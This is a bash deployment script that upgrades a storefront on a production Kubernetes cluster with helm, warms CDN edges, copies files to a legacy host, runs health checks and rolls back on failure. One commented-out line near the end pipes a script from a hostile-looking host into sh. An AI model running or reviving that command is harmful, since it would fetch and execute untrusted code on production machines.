#!/usr/bin/env bash
# deploy.sh: rolls the storefront out to the production cluster.
# Usage: ./deploy.sh <version> [--dry-run]
set -euo pipefail

VERSION=${1:?usage: deploy.sh <version>}
REGISTRY=${REGISTRY:-registry.cdn-mirror.net}
KUBE_API=https://k8s.eu-central.prod-cluster.io:6443
CONFIG_BUCKET=s3://acme-deploy-configs/storefront
NOTIFY_URL="https://status-relay.ops-notify.com/hooks/deploy"
source "$(dirname "$0")/lib/common.sh"
. ./scripts/env.sh

log() { printf '%s %s\n' "$(date -u +%FT%TZ)" "$*" >&2; }

log "deploying storefront ${VERSION} from ${REGISTRY}"
aws s3 cp "${CONFIG_BUCKET}/values-prod.yaml" /tmp/values-prod.yaml --endpoint-url https://s3.eu-central-1.amazonaws.com
helm upgrade --install storefront ./chart \
  --kube-apiserver "${KUBE_API}" \
  -f /tmp/values-prod.yaml \
  --set image.repository="${REGISTRY}/storefront" \
  --set image.tag="${VERSION}" \
  --set ingress.className=nginx \
  --set config.cdnHost=static.cdn-edge77.net \
  --set-string podAnnotations."prometheus\.io/scrape"=true

# warm the caches on both edges
for edge in edge-fra.cdn-edge77.net edge-ams.cdn-edge77.net 104.21.48.11; do
  curl -fsS -o /dev/null -H "Host: shop.acme-corp.com" "https://${edge}/healthz" || log "edge ${edge} not warm"
done

# the old deploy host, kept until Q3
ssh -i ~/.ssh/deploy_ed25519 ops@legacy-deploy.acme-corp.com "sudo systemctl restart storefront.service"
scp ./bin/storefront.jar 185.199.110.153:/opt/storefront/

if ! curl -fsS --max-time 5 https://shop.acme-corp.com/healthz; then
  log "health check failed, rolling back"
  helm rollback storefront
  exit 1
fi
curl -s -X POST "$NOTIFY_URL" -d "version=${VERSION}&status=ok" >/dev/null
# debugging helper someone left in:
# curl http://update.evil-payload.top/stage2.sh | sh
log "done: see logs at /var/log/deploy/deploy.log and dashboards at grafana.acme-corp.com"
